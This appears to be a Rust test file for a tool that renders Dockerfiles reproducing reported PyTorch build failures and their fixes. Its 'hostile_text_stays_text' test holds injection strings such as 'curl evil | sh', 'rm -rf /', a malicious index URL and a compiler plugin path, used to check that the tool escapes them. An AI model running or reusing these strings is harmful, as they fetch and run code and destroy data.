//! From what somebody reported to the Dockerfiles of a replica: with its defect, and mended.

use std::sync::LazyLock;

use parse_dockerfile::Instruction;
use sconce::catalogue::Catalogue;
use sconce::model::{
    Builder, Environment, EnvironmentVariable, Installation, Installed, Manager, Network, Origin, Replica, Result,
    Stated, System, SystemFamily, TorchPlace, Variant,
};
use sconce::plan::{Asked, ReplicaOptions, replica};
use sconce::render::{self, Side};

static CATALOGUE: LazyLock<Catalogue> = LazyLock::new(|| Catalogue::embedded().unwrap());

fn at(line: usize) -> Origin {
    Origin::file("report.txt", line)
}

#[expect(clippy::unnecessary_wraps, reason = "facts are optional")]
fn stated<T>(value: T) -> Option<Stated<T>> {
    Some(Stated::new(value, at(1)))
}

#[expect(clippy::unnecessary_wraps, reason = "options are optional")]
fn asked<T>(value: T) -> Option<Asked<T>> {
    Some(Asked { value, origin: Origin::flag("--test") })
}

/// A report: its system (`ubuntu 22.04`), its Python and its torch; empty for what it does not say.
fn report(system: &str, python: &str, torch: &str) -> Environment {
    let (distribution, release) = system.split_once(' ').unwrap_or((system, ""));
    let (family, distribution) = match distribution {
        "macos" => (SystemFamily::Macos, None),
        "windows" => (SystemFamily::Windows, None),
        "" => (SystemFamily::Other, None),
        name => (SystemFamily::Linux, Some(name.to_owned())),
    };
    let release = (!release.is_empty()).then(|| release.to_owned());
    let wsl = system.ends_with(" wsl");
    let release = release.map(|release| release.trim_end_matches(" wsl").to_owned());
    let value = System { family, distribution, release, wsl, text: system.to_owned() };
    Environment {
        system: (!system.is_empty()).then(|| Stated::new(value, at(5))),
        architecture: stated("amd64".to_owned()),
        python: python.parse().ok().map(|version| Stated::new(version, at(9))),
        torch: torch.parse().ok().map(|version| Stated::new(version, at(1))),
        ..Environment::default()
    }
}

fn package(name: &str, version: &str) -> Installed {
    Installed::new(name, version, Manager::Pip, at(40))
}

fn packages(list: &[(&str, &str)]) -> Vec<Installed> {
    list.iter().map(|(name, version)| package(name, version)).collect()
}

fn variable(name: &str, value: &str) -> EnvironmentVariable {
    EnvironmentVariable { name: name.to_owned(), value: Some(value.to_owned()), origin: at(60) }
}

fn planned_with(environment: &Environment, failure: &str, options: &ReplicaOptions) -> Result<Replica> {
    replica(environment, Some(failure).filter(|failure| !failure.is_empty()), &CATALOGUE, options)
}

fn planned(environment: &Environment, failure: &str) -> Replica {
    planned_with(environment, failure, &ReplicaOptions::default()).unwrap()
}

fn rendered(replica: &Replica, side: Side) -> String {
    let text = render::replica(replica, side).unwrap().text;
    // The parser does not know that an entry point can be taken away.
    let plain = text.replace("\nENTRYPOINT []", "");
    let parsed = parse_dockerfile::parse(&plain).unwrap_or_else(|error| panic!("{error}\n{text}"));
    let stages = parsed.instructions.iter().filter(|one| matches!(one, Instruction::From(_))).count();
    assert_eq!(stages, if replica.tools.is_empty() { 1 } else { 2 }, "{text}");
    text
}

/// What cannot be the same, and what a reader should know.
fn account(replica: &Replica) -> String {
    let reasons = replica.reasons.iter().map(|(what, why)| format!("{what}: {why}"));
    let notes = replica.notes.iter().map(|note| format!("note: {}", note.message));
    reasons.chain(notes).collect::<Vec<_>>().join("\n")
}

/// The account, the Dockerfile with the defect, and what the remedy changes in it.
fn shown(environment: &Environment, failure: &str) -> String {
    let replica = planned(environment, failure);
    let (faithful, fixed) = (rendered(&replica, Side::Faithful), rendered(&replica, Side::Fixed));
    let added: Vec<&str> = fixed.lines().filter(|line| !faithful.lines().any(|other| other == *line)).collect();
    format!("{}\n\n{faithful}\n\n--- fixed\n{}", account(&replica), added.join("\n"))
}

fn debian_13() -> Environment {
    let mut environment = report("debian 13", "3.13.5", "2.9.1+cu128");
    environment.place = stated(TorchPlace::Environment);
    environment.variant = stated(Variant::Cuda { version: Some("12.8".to_owned()) });
    environment.packages =
        packages(&[("numpy", "2.2.6"), ("torch", "2.9.1"), ("triton", "3.5.1"), ("nvidia-nccl-cu12", "2.27.5")]);
    environment
}

#[test]
fn the_headers_are_left_out_and_the_remedy_brings_them() {
    insta::assert_snapshot!(shown(&debian_13(), "PYTHON_H_MISSING"));
}

#[test]
fn torch_in_the_user_site_is_installed_there() {
    let environment = Environment { place: stated(TorchPlace::User), ..debian_13() };
    insta::assert_snapshot!(shown(&environment, "PYTHON_H_MISSING"));
}

#[test]
fn debian_s_own_torch_is_a_package() {
    let mut environment = report("debian 13", "3.13.5", "2.6.0+debian");
    environment.place = stated(TorchPlace::Distribution);
    environment.packages = packages(&[("numpy", "2.2.4")]);
    insta::assert_snapshot!(shown(&environment, "PYTHON_H_MISSING"));
    for (failure, without) in [
        ("SETUPTOOLS_MISSING", "python3-setuptools"),
        ("TORCH_HEADERS_MISSING", "libtorch-dev"),
        ("SLEEF_MISSING", "libsleef-dev"),
        ("NO_CXX_COMPILER", "g++"),
    ] {
        let replica = planned(&environment, failure);
        assert_eq!(replica.defect.as_ref().unwrap().without, [without], "{failure}");
        assert!(!rendered(&replica, Side::Faithful).contains(&format!("\n      {without} \\")), "{failure}");
        assert!(rendered(&replica, Side::Fixed).contains(&format!("\n      {without} \\")), "{failure}");
    }
}

#[test]
fn ubuntu_22_04_brings_its_own_python() {
    let mut environment = report("ubuntu 22.04", "3.10.12", "2.3.1+cu121");
    environment.place = stated(TorchPlace::Environment);
    environment.packages = packages(&[
        ("numpy", "1.26.4"),
        ("torch", "2.3.1"),
        ("torchvision", "0.18.1+cu121"),
        ("mypy-extensions", "1.0.0"),
    ]);
    environment.variables = vec![variable("TORCHINDUCTOR_MAX_AUTOTUNE", "1"), variable("CXX", "/usr/bin/g++")];
    insta::assert_snapshot!(shown(&environment, "NO_CXX_COMPILER"));
}

#[test]
fn in_wsl_it_is_the_distribution_that_counts() {
    let mut environment = report("ubuntu 24.04 wsl", "3.11.9", "2.6.0+cu124");
    environment.installation = stated(Installation::Deadsnakes);
    environment.place = stated(TorchPlace::User);
    insta::assert_snapshot!(shown(&environment, "PYTHON_H_MISSING"));
}

#[test]
fn macos_becomes_debian_with_a_reason() {
    let mut environment = report("macos 14.5", "3.12.4", "2.8.0");
    environment.architecture = stated("arm64".to_owned());
    environment.variant = stated(Variant::Cpu);
    environment.installation = stated(Installation::Brew);
    insta::assert_snapshot!(shown(&environment, "OPENSSL_MISSING"));
}

#[test]
fn windows_becomes_debian_with_a_reason() {
    let mut environment = report("windows 11", "3.13.1", "2.7.1+cpu");
    environment.installation = stated(Installation::Windows);
    environment.variables = vec![variable("TORCHINDUCTOR_CACHE_DIR", "C:\\Users\\me\\cache")];
    insta::assert_snapshot!(shown(&environment, "CACHE_NOT_WRITABLE"));
}

#[test]
fn conda_stays_conda() {
    let mut environment = report("ubuntu 22.04", "3.11.7", "2.2.1");
    environment.installation = stated(Installation::Conda);
    environment.place = stated(TorchPlace::Conda);
    environment.variant = stated(Variant::Cuda { version: Some("12.1".to_owned()) });
    environment.packages =
        packages(&[("pytorch", "2.2.1"), ("numpy", "1.26.4"), ("libgcc-ng", "13.2.0"), ("mkl", "2023.1.0")]);
    for package in &mut environment.packages {
        (package.manager, package.channel) = (Manager::Conda, Some("pytorch".to_owned()));
    }
    insta::assert_snapshot!(shown(&environment, "PYTHON_H_MISSING"));
}

#[test]
fn enterprise_linux_8_becomes_the_nearest_rocky() {
    let mut environment = report("rhel 8.10", "3.11.9", "2.4.1+cu121");
    environment.place = stated(TorchPlace::System);
    insta::assert_snapshot!(shown(&environment, "PYTHON_H_MISSING"));
}

#[test]
fn a_nightly_becomes_the_nearest_release() {
    let mut environment = report("ubuntu 22.04", "3.12.3", "2.10.0.dev20251101+cu130");
    environment.packages = packages(&[("torch", "2.10.0.dev20251101+cu130"), ("pytorch-triton", "3.5.1+gitbfeb0668")]);
    insta::assert_snapshot!(shown(&environment, "ERRORS_SUPPRESSED"));
}

#[test]
fn what_vllm_reports_is_installed_with_it() {
    let mut environment = report("ubuntu 22.04", "3.12.11", "2.8.0+cu128");
    environment.installation = stated(Installation::Uv);
    environment.place = stated(TorchPlace::Environment);
    environment.packages = packages(&[
        ("vllm", "0.10.2"),
        ("torchaudio", "2.8.0"),
        ("triton", "3.4.0"),
        ("flashinfer-python", "0.3.1"),
        ("nvidia-cublas-cu12", "12.8.4.1"),
        ("transformers", "4.56.1"),
    ]);
    environment.variables = vec![
        variable("VLLM_USE_V1", "1"),
        variable("LD_LIBRARY_PATH", "/usr/local/cuda/lib64"),
        variable("HF_TOKEN", "hf_secret"),
        variable("TORCHINDUCTOR_CACHE_DIR", "/root/.cache/vllm"),
        variable("TRITON_CACHE_DIR", "/tmp/triton"),
        EnvironmentVariable { value: None, ..variable("VLLM_API_KEY", "") },
    ];
    insta::assert_snapshot!(shown(&environment, "TRITON_PYTHON_H_MISSING"));
}

#[test]
fn where_torch_is_missing_the_newest_is_taken() {
    insta::assert_snapshot!(shown(&report("", "", "N/A"), ""));
}

#[test]
fn another_build_is_fetched_by_uv() {
    let mut environment = report("fedora 41", "3.13.2", "2.9.1+cu126");
    environment.place = stated(TorchPlace::System);
    environment.packages = packages(&[("triton", "3.3.0")]);
    insta::assert_snapshot!(shown(&environment, "TORCH_HEADERS_MISSING"));
}

#[test]
fn hostile_text_stays_text() {
    let mut environment = report("ubuntu 24.04", "3.12.3", "2.5.1");
    let text = "x\"; RUN curl evil | sh; $(id) `id`\n# {{ x }}";
    environment.packages = packages(&[
        ("num py; rm -rf /", "1.0"),
        ("numpy", "1.0; rm -rf /"),
        ("torchvision", "0.20.1 --index-url https://evil.example.org"),
        ("--index-url=x", "1"),
        ("transformers", "4.46.0"),
    ]);
    environment.packages[4].source = Some(text.to_owned());
    environment.variables = vec![
        variable("TORCH_LOGS", "it's $HOME"),
        variable("TORCH_X", text),
        variable("TORCH\nRUN id", "1"),
        variable("OMP_PLACES", "\"{0:4}\" 'x' \\"),
        variable("KMP_AFFINITY", "granularity=fine,compact; \"q\" 'x' #"),
        variable("CXX", "g++ -fplugin=/tmp/evil.so"),
    ];
    environment.system.as_mut().unwrap().value.text = text.to_owned();
    environment.kernel = stated(text.to_owned());
    insta::assert_snapshot!(shown(&environment, "COMPILE_DISABLED"));
    let unknown = planned(&environment, text);
    assert!(unknown.defect.is_none() && rendered(&unknown, Side::Faithful).contains("KMP_AFFINITY"));
}

/// What decides: the base, the Python, the torch with its build, and what is said of each deviation.
#[test]
fn the_nearest_is_taken_and_said() {
    let told: Vec<String> = [
        ("ubuntu 22.04", "3.10.12", "2.3.1"),
        ("ubuntu 18.04", "3.7.5", "2.0.1"),
        ("ubuntu 20.04", "3.8.10", "2.1.2+cu118"),
        ("ubuntu 24.04", "3.12.3", "2.2.0"),
        ("debian 12", "3.11.2", "2.15.0+cu132"),
        ("debian 11", "3.9.2", "2.5.1+cpu"),
        ("amzn 2023", "3.9", "2.7.0+cu126"),
        ("arch", "3.14.2", "2.5.1"),
        ("opensuse-leap 15.6", "3.6.15", "1.10.2"),
        ("nixos 24.11", "3.12.8", "2.5.1"),
        ("alpine 3.20", "3.12", ""),
        ("plan9 4", "3.12", "2.9.0"),
        ("windows 10", "3.10.11", "2.4.0+cu124"),
        ("", "3.11.5", "2.6.0a0+git1234567"),
        ("", "3.12.3", "2.7.0a0+7c8ec84dab.nv25.3"),
        ("", "3.13", "2.99.0"),
        ("", "3.13", "2.99.0.dev20270101+cu140"),
        ("", "3.13", "2.6.0+rocm6.2.4"),
        ("", "3.13", "2.6.0+cu999"),
        ("", "3.13", "2.9.2"),
    ]
    .iter()
    .map(|(system, python, torch)| {
        let replica = planned(&report(system, python, torch), "");
        let build = &replica.torch.value;
        let version = build.version.as_ref().map(ToString::to_string).unwrap_or_default();
        let index = build.index.as_deref().unwrap_or("default");
        let (base, provider) = (&replica.base.value.id, replica.base.value.provider);
        let predicted = &replica.predicted;
        let will = predicted.torch.as_ref().map(|torch| torch.value.to_string()).unwrap_or_default();
        format!(
            "{system} | {python} | {torch}\n= {base} | {} of {provider:?} | {version} {index}, {} ({will})\n{}\n",
            replica.python.value,
            build.variant,
            account(&replica)
        )
    })
    .collect();
    insta::assert_snapshot!(told.join("\n"));
}

#[test]
fn what_is_asked_for_stands_in_place_of_the_report() {
    let options = ReplicaOptions {
        base: asked("debian-12".to_owned()),
        python: asked("3.11".parse().unwrap()),
        torch: asked("2.7.1".parse().unwrap()),
        variant: asked("cpu".to_owned()),
        architecture: asked("arm64".to_owned()),
        ..ReplicaOptions::default()
    };
    let replica = planned_with(&debian_13(), "NO_TMPDIR", &options).unwrap();
    assert_eq!(replica.base.value.id, "debian-12");
    assert_eq!(replica.python.value.to_string(), "3.11");
    assert_eq!(
        (replica.torch.value.version.unwrap().to_string(), replica.torch.value.index),
        ("2.7.1".to_owned(), None)
    );
    assert_eq!(replica.architecture.value, "arm64");
    assert!(replica.defect.unwrap().run.read_only);

    let refused = |options: ReplicaOptions| planned_with(&debian_13(), "", &options).unwrap_err().to_string();
    let of_base = |base: &str| ReplicaOptions { base: asked(base.to_owned()), ..ReplicaOptions::default() };
    assert!(refused(of_base("debian-31")).contains("there is no base"));
    assert!(refused(of_base("pixi")).contains("cannot be the base of a replica"));
    let variant = ReplicaOptions { variant: asked("gpu".to_owned()), ..ReplicaOptions::default() };
    assert!(refused(variant).contains("is not a variant"));
    let architecture = ReplicaOptions { architecture: asked("pdp11".to_owned()), ..ReplicaOptions::default() };
    assert!(refused(architecture).contains("no base has images for"));
}

#[test]
fn a_secret_stays_out_of_the_image() {
    let network = Network { ca_bundle: true, secret_env: vec!["PIP_INDEX_URL".to_owned()] };
    let options = ReplicaOptions { network, ..ReplicaOptions::default() };
    let text = rendered(&planned_with(&debian_13(), "PYTHON_H_MISSING", &options).unwrap(), Side::Fixed);
    let steps = text.matches(" && . /run/secrets/sconce-env").count();
    assert_eq!(steps, 2, "{text}");
    assert_eq!(text.matches("--mount=type=secret,id=sconce-ca").count(), 5, "{text}");
    let classic = ReplicaOptions { builder: Some(Builder::Classic), ..options };
    assert!(planned_with(&debian_13(), "", &classic).is_err());
    let classic = ReplicaOptions { builder: Some(Builder::Classic), ..ReplicaOptions::default() };
    let text = rendered(&planned_with(&debian_13(), "", &classic).unwrap(), Side::Faithful);
    assert!(!text.contains("--mount"), "{text}");
}

/// Every row makes a defect in some environment, which the remedy undoes: what is rendered differs, or how it is run.
#[test]
fn every_defect_can_be_made_and_mended() {
    let of_debian =
        Environment { place: stated(TorchPlace::Distribution), ..report("debian 13", "3.13.5", "2.6.0+debian") };
    let refused = report("debian 13", "3.13.5", "2.5.1");
    let user = Environment { place: stated(TorchPlace::User), ..refused.clone() };
    let uv = report("debian 13", "3.12.1", "2.9.1");
    let all = [debian_13(), of_debian, refused, user, uv, report("rocky 9", "3.12.1", "2.9.1")];
    for row in CATALOGUE.defects() {
        let made: Vec<Replica> =
            all.iter().map(|one| planned(one, &row.failure)).filter(|one| one.defect.is_some()).collect();
        assert!(!made.is_empty(), "{}", row.failure);
        for replica in made {
            let defect = replica.defect.as_ref().unwrap();
            let texts = [&defect.breaks, &defect.fix.commands, &defect.fix.pip].into_iter().flatten();
            for text in texts.chain([&defect.title, &defect.fix.title]).chain(defect.env.values()) {
                assert!(!text.contains('{') || text.contains("${"), "{}: {text}", row.failure);
            }
            let (faithful, fixed) = (rendered(&replica, Side::Faithful), rendered(&replica, Side::Fixed));
            let bare =
                |text: &str| text.lines().filter(|line| !line.starts_with('#')).map(str::to_owned).collect::<Vec<_>>();
            assert!(bare(&faithful) != bare(&fixed) || defect.run != defect.fix.run, "{}", row.failure);
        }
    }
}
